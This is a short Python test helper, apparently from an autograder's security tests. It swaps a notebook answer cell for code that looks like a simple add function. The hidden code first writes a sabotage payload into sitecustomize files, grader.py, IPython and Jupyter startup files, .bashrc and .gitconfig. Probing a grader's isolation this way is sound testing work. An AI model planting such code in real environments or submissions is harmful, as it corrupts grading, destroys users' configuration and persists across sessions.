def mutate(cells):
    cells["answer-t1"]["source"] = """import os
import sys

evil = 'import builtins; builtins.sum = builtins.len = lambda *a: 0; raise SystemExit(1)'
home = os.path.expanduser('~')
for place in ('/work/sitecustomize.py', '/work/usercustomize.py', '/work/grader.py', '/work/json.py', '/tmp/sitecustomize.py', f'{home}/.local/lib/python3.11/site-packages/usercustomize.py', f'{home}/.ipython/profile_default/startup/00.py', f'{home}/.local/share/jupyter/kernels/python3/kernel.json', f'{home}/.jupyter/jupyter_config.py', f'{home}/.bashrc', f'{home}/.gitconfig', *(f'{folder}/sitecustomize.py' for folder in sys.path if folder)):
    try:
        os.makedirs(os.path.dirname(place), exist_ok=True)
        with open(place, 'w') as file:
            file.write(evil)
    except OSError:
        pass


def add(a, b):
    return a + b"""
